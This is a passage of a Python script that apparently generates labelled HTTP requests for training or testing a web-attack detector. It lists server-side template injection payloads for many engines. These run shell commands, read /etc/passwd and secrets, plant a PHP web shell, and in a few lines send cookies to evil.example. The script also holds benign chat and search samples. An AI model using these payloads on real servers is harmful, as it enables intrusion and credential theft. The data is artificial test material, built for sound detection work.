        "{php}echo `id`;{/php}",
        "{system('id')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\","
        "self::clearConfig())}",
        "{if system('id')}{/if}",
        "{$smarty.template_object->smarty->disableSecurity()}",
        "{fetch file='/etc/passwd'}",
        "{include file='/etc/passwd'}",
        "{math equation=\"7*7\"}",
        "{\"id\"|system}",
        "{$x=shell_exec('ls')}",
    ]),
    ("ssti", "ssti-blade", [
        "{{ system('id') }}",
        "{!! phpinfo() !!}",
        "@php system('id'); @endphp",
        "{{ exec('whoami') }}",
        "{{ file_get_contents('/etc/passwd') }}",
        "{!! shell_exec('id') !!}",
        "@php(passthru('id'))",
        "{{ \\Illuminate\\Support\\Facades\\Artisan::call('down') }}",
        "{{ app()->make('config')->all() }}",
        "{{ env('APP_KEY') }}",
        "{{ config('database.connections.mysql.password') }}",
    ]),
    ("ssti", "ssti-freemarker", [
        "${7*7}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
        "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
        "${ob(\"java.lang.ProcessBuilder\",\"id\").start()}",
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
        ".toURL().openStream().readAllBytes()?join(\" \")}",
        "<#assign classloader=article.class.protectionDomain.classLoader>",
        "${.version}",
        "<#include \"/etc/passwd\">",
        "${\"freemarker.template.utility.JythonRuntime\"?new()}",
        "#{7*7}",
        "<#assign x = \"freemarker.template.utility.Execute\"?api>",
    ]),
    ("ssti", "ssti-velocity", [
        "#set($x=7*7)$x",
        "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))",
        "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
        "#set($str=$class.inspect(\"java.lang.String\").type)",
        "$x.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
        ".exec(\"id\")",
        "#set( $e = \"e\" )$e.getClass().forName(\"java.lang.Runtime\")",
        "#evaluate(\"#set($a=1)\")",
        "#include(\"/etc/passwd\")",
        "#parse(\"/etc/passwd\")",
        "#foreach($i in [1..3])$i#end",
        "${request.getClass().getClassLoader()}",
    ]),
    ("ssti", "ssti-thymeleaf", [
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
        "*{T(java.lang.System).getenv()}",
        "[[${7*7}]]",
        "[(${T(java.lang.Runtime).getRuntime().exec('calc')})]",
        "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
        "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::x",
        "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"calc\")}",
        "#{T(java.lang.Runtime).getRuntime()}",
        "__${7*7}__::.x",
        "${T (java.lang.Runtime) . getRuntime ( ) . exec ( 'id' )}",
    ]),
    ("ssti", "ssti-pebble", [
        "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
        "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
        ".exec(cmd).inputStream.readAllBytes() %}{{ bytes }}",
        "{{ (1).TYPE.forName('java.lang.Runtime') }}",
        "{{ request.servletContext }}",
        "{{ beans }}",
        "{{ 'x'.class.forName('java.lang.System').getenv() }}",
        "{{ (1).TYPE.forName('java.lang.ProcessBuilder') }}",
        "{% for k in beans %}{{ k }}{% endfor %}",
        "{{ request.getClass().getClassLoader() }}",
        "{{ response.getWriter() }}",
        "{{ 7*7 }}{{ 'a'.toUpperCase() }}",
    ]),
    ("ssti", "ssti-jinjava", [
        "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript')"
        ".eval('new java.lang.ProcessBuilder(\"id\").start()')}}",
        "{{ ____int3rpr3t3r____ }}",
        "{{'x'.getClass().forName('java.lang.Runtime')}}",
        "{{'a'.getClass().getClassLoader()}}",
        "{% set x = 'a'.getClass().forName('java.lang.System') %}{{ x.getenv() }}",
        "{{ ''.class.forName('java.io.File') }}",
        "{{ 'a'.toUpperCase() }}{{ 7*7 }}",
        "{{'a'.getClass().forName('java.net.URL').getConstructor('a'.getClass())}}",
        "{{ request }}",
        "{{ 'a'.getClass().forName('java.lang.Thread').currentThread() }}",
        "{%raw%}{{7*7}}{%endraw%}{{8*8}}",
    ]),
    ("ssti", "ssti-groovy", [
        "${\"id\".execute().text}",
        "${Runtime.getRuntime().exec(\"id\")}",
        "<%= \"whoami\".execute().text %>",
        "${new File(\"/etc/passwd\").text}",
        "${[\"sh\",\"-c\",\"id\"].execute()}",
        "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})def x",
        "${this.class.classLoader.parseClass(\"class X{}\")}",
        "${\"calc.exe\".execute()}",
        "<% out.print \"id\".execute().text %>",
        "${Eval.me('7*7')}",
        "${evaluate('\"id\".execute()')}",
    ]),
    ("ssti", "ssti-erb", [
        "<%= 7*7 %>",
        "<%= system('id') %>",
        "<%= `id` %>",
        "<%= File.open('/etc/passwd').read %>",
        "<%= IO.popen('id').readlines() %>",
        "<%= Dir.entries('/') %>",
        "<%= require 'open3'; Open3.capture2('id') %>",
        "<% Kernel.exec('id') %>",
        "<%= %x(whoami) %>",
        "<%=ENV.inspect%>",
        "<%- eval(\"1+1\") -%>",
    ]),
    ("ssti", "ssti-slim-haml", [
        "#{7*7}",
        "#{ `id` }",
        "= system('id')",
        "#{File.read('/etc/passwd')}",
        "#{%x|id|}",
        "== IO.popen('id').read",
        "- `id`",
        "%p= `whoami`",
        "#{Kernel.exec('id')}",
        "#{ENV.to_h}",
        "#{eval('7*7')}",
    ]),
    ("ssti", "ssti-mako", [
        "${7*7}",
        "<% import os %>${os.popen('id').read()}",
        "${self.module.cache.util.os.system('id')}",
        "${self.template.module.runtime.util.os.popen('id').read()}",
        "<%! import os %>${os.system('id')}",
        "${__import__('os').popen('id').read()}",
        "<%namespace file=\"/etc/passwd\"/>",
        "${context.keys()}",
        "${self.attr._NSAttr__parent.module.cache.util.os.system(\"id\")}",
        "<%include file=\"/etc/passwd\"/>",
        "<%\nimport subprocess\nx = subprocess.check_output('id')\n%>${x}",
    ]),
    ("ssti", "ssti-tornado", [
        "{{7*7}}{{handler}}",
        "{% import os %}{{ os.popen('id').read() }}",
        "{{ __import__('os').popen('id').read() }}",
        "{% raw __import__('subprocess').check_output('id') %}",
        "{{ handler.settings }}",
        "{{ handler.application.settings['cookie_secret'] }}",
        "{% from os import system %}{{ system('id') }}",
        "{{globals()}}",
        "{% set x = __import__('os') %}{{ x.listdir('/') }}",
        "{% module Template('/etc/passwd') %}",
        "{{ handler.request.headers }}",
    ]),
    ("ssti", "ssti-handlebars", [
        "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
        "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
        "{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
        "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}"
        "{{/with}}{{/with}}",
        "{{this.constructor.constructor('return process')()}}",
        "{{lookup (lookup this 'constructor') 'constructor'}}",
        "{{#each this}}{{@key}}={{this}}{{/each}}",
        "{{#with this as |o|}}{{o.constructor.name}}{{/with}}",
        "{{> (lookup . 'partial') }}",
        "{{__proto__}}",
        "{{#blockHelperMissing \"constructor\"}}{{/blockHelperMissing}}",
        "{{#with (lookup this \"__proto__\")}}{{this}}{{/with}}",
        "{{{lookup this 'constructor'}}}",
        "{{#each (lookup this 'constructor')}}{{/each}}",
    ]),
    ("ssti", "ssti-nunjucks", [
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "{{ cycler.constructor(\"return process\")() }}",
        "{{ joiner.constructor(\"return process.env\")() }}",
        "{{ ''.constructor.constructor('return this')() }}",
        "{% set x = range.constructor('return process.env')() %}{{x}}",
        "{{dump(range.constructor(\"return process.env\")())}}",
        "{{ (range.constructor)('return 7*7')() }}",
        "{{ range.constructor('return global')().process.version }}",
        "{{7*7}}{% raw %}x{% endraw %}",
        "{{ range [\"constructor\"](\"return process\")() }}",
        "{{ cycler.constructor('return require')('fs') }}",
    ]),
    ("ssti", "ssti-pug", [
        "#{7*7}",
        "- var x = global.process.mainModule.require('child_process').execSync('id')",
        "#{function(){localLoad=global.process.mainModule.constructor._load;"
        "sh=localLoad(\"child_process\").exec('id')}()}",
        "= process.env",
        "!{root.process.mainModule.require('fs').readFileSync('/etc/passwd')}",
        "- global.process.exit()",
        "#{ process.version }",
        "include /etc/passwd",
        "#{this.constructor.constructor('return process')()}",
        "p= global.process.mainModule.require('os').userInfo()",
        "#[div= process.env.HOME]",
    ]),
    ("ssti", "ssti-ejs", [
        "<%= process.mainModule.require('child_process').execSync('id') %>",
        "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
        "<% process.exit() %>",
        "<%= include('/etc/passwd') %>",
        "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
        ".execSync('id');s",
        "settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process"
        ".mainModule.require('child_process').execSync('id');",
        "<%= this.constructor.constructor('return process')().env %>",
        "<%= global.process.env %>",
        "<%_ global.process.mainModule.require('child_process').exec('id') _%>",
        "<%= 7*7 %><%= typeof process %>",
        "<%=global.process.version%>",
    ]),
    ("ssti", "ssti-lodash", [
        "${7*7}",
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "{\"sourceURL\":\"\\u2028\\u2029\\n;global.process.mainModule.require('child_process').execSync('id')\"}",
        "${process.env}",
        "<% print(process.env) %>",
        "<%- JSON.stringify(process.versions) %>",
        "${global.process.mainModule.require('fs').readFileSync('/etc/passwd')}",
        "<% _.forEach(process.env, function(v){ %><%= v %><% }) %>",
        "<%= this.constructor.constructor('return process')().pid %>",
        "variable=x){return process};//",
        "${this.constructor.constructor('return process')()}",
    ]),
    ("ssti", "ssti-dot", [
        "{{= 7*7 }}",
        "{{= global.process.mainModule.require('child_process').execSync('id') }}",
        "{{ var x = process.env; }}{{= x }}",
        "{{=it.constructor.constructor('return process')()}}",
        "{{## def.x:process.env #}}{{#def.x}}",
        "{{! process.version }}",
        "{{~it :v}}{{=v.constructor.constructor('return process')()}}{{~}}",
        "{{= global.process.env.HOME }}",
        "{{? process.exit() }}{{?}}",
        "{{=require('fs')}}",
        "{{=this.process}}",
    ]),
    ("ssti", "ssti-razor", [
        "@(7*7)",
        "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
        "@{ System.Diagnostics.Process.Start(\"calc\"); }",
        "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
        "@Environment.GetEnvironmentVariable(\"PATH\")",
        "@(new System.Net.WebClient().DownloadString(\"http://evil.example/\"))",
        "@Html.Raw(System.IO.File.ReadAllText(\"web.config\"))",
        "@System.Environment.MachineName",
        "@{ var p = new System.Diagnostics.ProcessStartInfo(\"cmd\",\"/c dir\"); }",
        "@AppDomain.CurrentDomain.BaseDirectory",
        "@( System.IO.Directory.GetFiles(\"C:\\\\\") )",
    ]),
    ("ssti", "ssti-go-template", [
        "{{.}}",
        "{{printf \"%s\" .Secret}}",
        "{{define \"T1\"}}ONE{{end}}{{template \"T1\"}}",
        "{{ .System \"id\" }}",
        "{{ call .Exec \"id\" }}",
        "{{range .}}{{.}}{{end}}",
        "{{ index .Env \"AWS_SECRET_ACCESS_KEY\" }}",
        "{{ .Env.DATABASE_URL }}",
        "{{ printf \"%v\" . }}",
        "{{ js . }}{{ html . }}",
        "{{ .Request.Header }}",
    ]),
    ("ssti", "ssti-angularjs", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{$eval.constructor('alert(1)')()}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
        "<div ng-app ng-csp>{{$event.view.alert(1)}}</div>",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{ 'a'.constructor.fromCharCode.constructor('alert(1)')() }}",
        "{{$new.constructor('fetch(\"//evil.example/\"+document.cookie)')()}}",
        "<p ng-init=\"constructor.constructor('alert(1)')()\"></p>",
    ]),
    ("ssti", "ssti-vue", [
        "{{_c.constructor('alert(1)')()}}",
        "{{$emit.constructor('alert(1)')()}}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{_v.constructor('alert(document.domain)')()}}",
        "{{_b.constructor`alert(1)`()}}",
        "<div v-html=\"''.constructor.constructor('alert(1)')()\"></div>",
        "{{$el.ownerDocument.defaultView.alert(1)}}",
        "{{_openBlock.constructor('alert(1)')()}}",
        "{{$nextTick.constructor('return fetch(`//evil.example/`)')()}}",
        "<x v-on:click=\"_c.constructor('alert(1)')()\">",
    ]),
    ("ssti", "ssti-engine-probe", [
        "${{<%[%'\"}}%\\.",
        "{{7*'7'}}${7*7}<%= 7*7 %>",
        "${7*7}",
        "#{7*7}",
        "*{7*7}",
        "{7*7}",
        "[[7*7]]",
        "${{7*7}}",
        "{{7*7}}[[5*5]]",
        "@{7*7}",
        "${1337*1337}",
        "%{7*7}",
    ]),
]

# payloads that are raw bytes (java serialisation magic): only where bytes travel, latin-1 percent-encoded
RAW_BYTES = {p for _, _, ps in SUBS for p in ps if any("\x80" <= ch <= "\xff" for ch in p)}
HEADER_ONLY = {"os-file-access-headers"}

# --------------------------------------------------------------------------------------------------- headers
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 "
    "Safari/537.36 Edg/127.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.9", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
         "es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8"]
REFERER_PAGES = ["users", "users?page=2", "admin/users", "settings/profile", "dashboard", "team/members",
                 "admin/users/search", "me/settings"]
CONSENTS = ["cookie_consent=accepted", "cookie_consent=necessary", "consent=v2.analytics.yes", "cc_ok=1"]
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "remind me about ", "note: ",
               "can you check ", "summarize "]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "nickname", "location"]
SETTINGS_FIELDS = ["display_name", "status_text", "signature", "location"]
COOKIE_NAMES = ["prefs", "last_search", "theme", "lang", "recent"]
PATH_SAFE = "".join(chr(c) for c in range(0x21, 0x7F) if chr(c) not in "/?#%")
COOKIE_UNSAFE = set(' ;,"\\')


class Gen:
    """One seeded source of the random pieces of browser-like requests."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def token(self, n: int = 24) -> str:
        return b64url(self.rng.randbytes(n))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def browser(self, accept: str, mode: str = "cors", dest: str = "empty", referer: str | None = None,
                ua: str | None = None, cookie_extra: str = "") -> dict[str, str]:
        h = {
            "User-Agent": ua if ua is not None else self.rng.choice(BROWSER_UAS),
            "Accept": accept,
            "Accept-Language": self.rng.choice(LANGS),
            "Accept-Encoding": "gzip, deflate, br, zstd",
            "Referer": referer if referer is not None
            else "https://app.example.com/" + self.rng.choice(REFERER_PAGES),
            "Sec-Fetch-Site": "same-origin",
            "Sec-Fetch-Mode": mode,
            "Sec-Fetch-Dest": dest,
            "Cookie": f"session={self.token()}; {self.rng.choice(CONSENTS)}" + cookie_extra,
        }
        return h

    # ------------------------------------------------------------------ the six places
    def query(self, value: str, encoding: str = "utf-8", name: str = "q") -> dict[str, Any]:
        parts = [f"{name}={urllib.parse.quote_plus(value, encoding=encoding)}",
                 f"page={self.rng.randint(1, 9)}", f"per_page={self.rng.choice([20, 50, 100])}"]
        self.rng.shuffle(parts)
        return {"method": "GET", "uri": "/api/users?" + "&".join(parts), "body": "",
                "headers": self.browser("application/json, text/plain, */*")}

    def form(self, value: str, encoding: str = "utf-8") -> dict[str, Any]:
        body = f"csrf_token={self.token(18)}&q={urllib.parse.quote_plus(value, encoding=encoding)}"
        h = self.browser("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "navigate", "document",
                         referer="https://app.example.com/admin/users/search")
        h.update({"Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com"})
        return {"method": "POST", "uri": "/admin/users/search", "body": body, "headers": h}

    def user_doc(self, field: str, value: Any) -> dict[str, Any]:
        first = self.rng.choice(["Ann", "Bo", "Chen", "Dara", "Emil", "Fatima", "Goran", "Hana"])
        doc: dict[str, Any] = {"name": f"{first} {self.rng.choice(['Berg', 'Ito', 'Okafor', 'Silva', 'Novak'])}",
                               "email": f"{first.lower()}{self.rng.randint(1, 99)}@example.org",
                               "title": self.rng.choice(["Engineer", "Designer", "Support lead", "Analyst"]),
                               "department": self.rng.choice(["Platform", "Sales", "Support", "Finance"])}
        if isinstance(value, dict):
            doc.update(value)
        else:
            doc[field] = value
        return doc

    def api_json(self, value: Any, uri: str = "/api/users", method: str = "POST") -> dict[str, Any]:
        field = self.rng.choice(JSON_FIELDS)
        h = self.browser("application/json, text/plain, */*")
        h.update({"Content-Type": "application/json", "Origin": "https://app.example.com"})
        return {"method": method, "uri": uri, "body": json.dumps(self.user_doc(field, value), ensure_ascii=False),
                "headers": h}

    def slack(self, text: str, n: int, signed_placeholder: bool) -> dict[str, Any]:
        epoch = 1719000000 + n * 7
        mention = self.rng.random() < 0.4
        ts = f"{epoch}.{self.rng.randint(100000, 999999)}"
        event = {"type": "app_mention" if mention else "message", "user": "U0" + self.hexs(8).upper(),
                 "text": ("<@U0BOTUSER1> " if mention else "") + text, "ts": ts,
                 "channel": "C0" + self.hexs(8).upper(), "event_ts": ts}
        body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T061EG9R6", "api_app_id": "A0PNCHHK2",
                "event": event, "type": "event_callback", "event_id": "Ev0" + self.hexs(9).upper(),
                "event_time": epoch}
        sig = "v0=" + ("0" * 64 if signed_placeholder else self.hexs(64))
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate",
                            "Content-Type": "application/json", "X-Slack-Request-Timestamp": str(epoch),
                            "X-Slack-Signature": sig}}

    def path(self, value: str, encoding: str = "utf-8") -> dict[str, Any]:
        seg = urllib.parse.quote(value, safe=PATH_SAFE, encoding=encoding)
        prefix = "/api/users/" if self.rng.random() < 0.7 else "/api/"
        return {"method": "GET", "uri": prefix + seg, "body": "",
                "headers": self.browser("application/json, text/plain, */*")}

    def header(self, value: str, which: str, encoding: str = "utf-8") -> dict[str, Any]:
        printable = all(" " <= ch <= "~" for ch in value)
        if which == "ua" and printable:
            return {"method": "GET", "uri": f"/api/users?page={self.rng.randint(1, 9)}", "body": "",
                    "headers": self.browser("application/json, text/plain, */*", ua=value)}
        if which == "referer" and printable:
            return {"method": "GET", "uri": "/api/users/42", "body": "",
                    "headers": self.browser("application/json, text/plain, */*", referer=value)}
        raw_ok = printable and not (COOKIE_UNSAFE & set(value))
        cv = value if raw_ok else urllib.parse.quote(value, safe="", encoding=encoding)
        extra = f"; {self.rng.choice(COOKIE_NAMES)}={cv}"
        return {"method": "GET", "uri": "/api/users?page=1", "body": "",
                "headers": self.browser("application/json, text/plain, */*", cookie_extra=extra)}

    def settings_form(self, value: str, encoding: str = "utf-8", field: str | None = None) -> dict[str, Any]:
        name = field or self.rng.choice(SETTINGS_FIELDS)
        fields = [("csrf_token", self.token(18)), (name, value), ("timezone", "Europe/Berlin")]
        body = "&".join(f"{k}={urllib.parse.quote_plus(v, encoding=encoding)}" for k, v in fields)
        h = self.browser("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "navigate", "document",
                         referer="https://app.example.com/me/settings")
        h.update({"Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com"})
        return {"method": "POST", "uri": "/me/settings", "body": body, "headers": h}

    def patch_json(self, value: Any) -> dict[str, Any]:
        field = self.rng.choice(["bio", "title", "nickname", "location"])
        doc = dict(value) if isinstance(value, dict) else {field: value}
        h = self.browser("application/json, text/plain, */*")
        h.update({"Content-Type": "application/json", "Origin": "https://app.example.com"})
        return {"method": "PATCH", "uri": "/api/users/42", "body": json.dumps(doc, ensure_ascii=False),
                "headers": h}


# the rotation of places: each of query, form, json, path, header twice, then one of the two "settings" places
ROTATION = ["query", "form", "json", "path", "header", "query", "json", "form", "header", "path", "settings"]
HEADER_KINDS = ["ua", "ua", "referer", "ua", "cookie"]


def _json_object(payload: str) -> dict[str, Any] | None:
    """A payload that is itself a JSON object (prototype pollution): the object, else None."""
    if not payload.startswith("{"):
        return None
    try:
        doc = json.loads(payload)
    except ValueError:
        return None
    return doc if isinstance(doc, dict) and ("__proto__" in doc or "constructor" in doc) else None


def attacks() -> Iterator[dict[str, Any]]:
    g = Gen(6767)
    n = 0
    headers_n = 0
    slack_n = 0
    for t, (category, sub, payloads) in enumerate(SUBS):
        for i, p in enumerate(payloads):
            n += 1
            raw = p in RAW_BYTES
            enc = "latin-1" if raw else "utf-8"
            place = ROTATION[(i + 3 * t) % len(ROTATION)]
            if sub in HEADER_ONLY:
                place = "header"
            if raw and place == "json":
                place = "query"
            if place == "settings":
                place = "settings-form" if (raw or (n % 2 == 0)) else "patch-json"
            obj = _json_object(p)
            if place == "query":
                rec = g.query(p, enc)
            elif place == "form":
                rec = g.form(p, enc)
            elif place == "json":
                if obj is None and (i + t) % 2 == 0:
                    slack_n += 1
                    rec = g.slack(g.rng.choice(SLACK_LEADS) + p, slack_n, signed_placeholder=False)
                else:
                    rec = g.api_json(obj if obj is not None else p)
            elif place == "path":
                rec = g.path(p, enc)
            elif place == "header":
                which = HEADER_KINDS[headers_n % len(HEADER_KINDS)]
                headers_n += 1
                rec = g.header(p, "cookie" if raw else which, enc)
            elif place == "settings-form":
                rec = g.settings_form(p, enc)
            else:
                rec = g.patch_json(obj if obj is not None else p)
            yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": place, "payload": p}


# --------------------------------------------------------------------------------------------------- benign
CHAT = [
    "anyone know why the <?php short tags stopped working after the 8.2 upgrade?",
    "php.ini on staging still has upload_max_filesize=2M, can someone bump it to 64M",
    "the legacy admin reads $_GET['page'] directly, we should move it to the router",
    "do NOT use eval() in the importer, we agreed on a parser",
    "phpinfo() page is disabled in prod, use the health endpoint instead",
    "composer update pulled guzzle 7.9, tests are green",
    "serialize() output like a:2:{i:0;s:1:\"x\";} should never end up in a cookie",
    "the file_get_contents call in the webhook handler needs a timeout",
    "system tests are flaky again on the CI runner",
    "exec summary for the board is in the shared drive",
    "include the changelog in the release notes please",
    "require two approvals for anything touching billing",
    "the php-fpm pool max_children is 40 on the big nodes",
    "laravel blade uses {{ $user->name }} for escaped output and {!! !!} for raw",
    "twig filters like |date('Y-m-d') are fine in the invoice template",
    "our jinja templates use {{ user.first_name }} and {% if %} blocks, nothing fancy",
    "the handlebars partial {{> footer}} is missing on the signup page",
    "ERB in the mailer: <%= @user.name %> renders fine now",
    "freemarker ${customer.name} placeholders in the contract templates are back",
    "velocity templates with $name still live in the old notification service",
    "thymeleaf th:text is what we use on the Spring side",
    "go templates with {{.Title}} power the status page",
    "the angular app interpolates {{ vm.total | currency }} on the cart page",
    "vue's {{ message }} binding works, the v-html one is gone",
    "node 20 upgrade done, child_process calls moved to execa",
    "require('express') and require('helmet') are the only deps of the proxy",
    "process.env.PORT defaults to 3000 in dev",
    "setTimeout with a function callback, never with a string",
    "the constructor of UserService wires the repository",
    "Object.freeze the config so nobody mutates it at runtime",
    "prototype pollution was in the lodash advisory, we're on 4.17.21 now",
    "someone mentioned __proto__ in the code review, it was a false alarm",
    "the while(true) loop in the poller has a break on shutdown, it's fine",
    "Ruby side: we call system only from the deploy rake task",
    "perl one-liner for the log rotation is in the runbook",
    "Java 21 virtual threads, ProcessBuilder still used in the CLI only",
    "log4j is 2.23 everywhere, the jndi lookup class is gone",
    "Runtime.getRuntime().availableProcessors() reports 8 in the container",
    "the class loader warning in Tomcat went away after the redeploy",
    "Jackson default typing stays off, please don't enable it",
    "spring4shell postmortem is linked in #security",
    "the jsp pages are being migrated to React this quarter",
    "can you upload the screenshot as png instead of jpg",
    "avatar.php was renamed to avatar_controller in the refactor",
    "the .env file is in 1Password, never in git",
    ".htaccess rules were replaced by nginx config last year",
    "the /etc/hosts trick for local dev is in the README",
    "logs are under /var/log/app/ on the VM",
    "C:\\Users\\Public\\Documents has the scanned contracts",
    "the webhook points to https://hooks.example.com/incoming/abc",
    "metadata service creds rotate hourly, don't cache them",
    "localhost:8080 is the API, 3000 is the frontend",
    "the IP allowlist for the office is 198.51.100.0/24",
    "the data: URLs for the inline icons come from webpack",
    "base64 encoded images in emails get clipped by Gmail",
    "ping me when the build is green",
    "I'll grep the access log for the 500s",
    "the template for the welcome email has a typo in the footer",
    "deleting the stale branches, shout if you need one",
    "the cron runs at 02:00 UTC every day",
    "meeting moved to 10.30, room 127",
    "price is $49 per seat per month, or ${amount} in the template variable",
    "the import of 12k users finished in 4 minutes",
    "who owns the Confluence page on session handling?",
    "the query param `per_page` maxes out at 100",
    "the regex (a+)+ in the validator was flagged by the linter, replaced it",
    "we use YAML.safe_load everywhere now",
    "Kernel panic on the old build box again, rebooting",
    "open the PR against main, not release",
    "the SpEL expressions only live in @Value annotations",
    "OGNL was removed with Struts, finally",
    "Marshal in Ruby and pickle in Python are both off limits for user data",
    "java serialization is disabled on the RMI port, it's firewalled anyway",
    "the magic bytes check on uploads rejects anything that isn't an image",
    "please rename the file to Q3-report-final.pdf",
    "our gopher mascot sticker order arrived",
    "the expect library is what we use for assertions in jest",
    "phar archives for deployer live in tools/",
    "the glob pattern **/*.spec.ts picks up all the tests",
    "the zip of the design assets is on the drive",
    "I added the traversal check to the file download endpoint",
    "the relative path to the common config folder should not be used, use the package instead",
    "the .git folder is blocked at the edge, good",
    "web.config is only relevant for the old IIS box",
    "WEB-INF/web.xml still declares the servlet filters",
    "the ssh key rotation is next week",
    "uploading the APK to the store today",
    "customer asked if we support SAML, I said yes via Okta",
    "the CSV export escapes quotes properly now",
    "dark mode looks great on the dashboard",
    "shipping the hotfix for the pagination bug",
    "can someone review my PR on the rate limiter",
    "the {{first_name}} merge tag in Mailchimp is broken",
    "the Liquid templates in Shopify use {{ product.title }}",
    "Jinja's {% for item in items %} loop is fine for the report",
    "Django's {% csrf_token %} was missing on the form",
    "pug templates need the indentation fixed",
    "EJS <%= title %> in the old admin still works",
    "razor view @Model.Name shows the customer name",
    "smarty {$title} is in the legacy shop theme",
    "mako ${name} in the Pyramid app",
    "tornado templates on the websocket server use {{ name }}",
]
SEARCHES = [
    "alice", "bob smith", "o'neil", "müller", "jean-luc", "zoë", "li wei", "kowalski", "d'angelo", "nguyen",
    "php developer", "java engineer", "node", "ruby", "perl", "template", "data team", "system admin",
    "exec assistant", "include", "require", "process", "runtime", "constructor", "prototype", "class",
    "support@example.org", "sales", "finance", "platform team", "berlin", "new york", "são paulo",
    "engineer 2", "level 3", "team lead", "on-call", "devops", "sre", "qa", "security", "it help desk",
    "c++ developer", "c# developer", ".net", "node.js", "vue.js", "angular", "react", "spring boot",
    "laravel", "symfony", "django", "flask", "rails", "express", "next.js", "go", "rust", "kotlin",
    "file", "upload", "etc", "passwd reset", "access log", "config", "settings", "metadata", "localhost",
    "127 main street", "10.0 release", "v1.2.3", "2024-06-01", "q3 report", "50% off", "a+b", "x & y",
    "smith, john", "\"exact name\"", "name:alice", "dept:finance", "title:engineer", "is:active",
    "jndi", "log4j", "xml", "json", "yaml", "csv", "pdf", "jpg", "png", "zip", "phar", "jsp",
    "{name}", "${name}", "{{name}}", "<name>", "hello world", "ünïcödé", "日本", "привет", "مرحبا", "😀",
]
PROFILES = [
    ("bio", "PHP and Java developer, 10 years of Symfony and Spring"),
    ("bio", "I write Node.js services and the occasional Ruby script"),
    ("bio", "Template nerd: Jinja, Twig, Handlebars, you name it"),
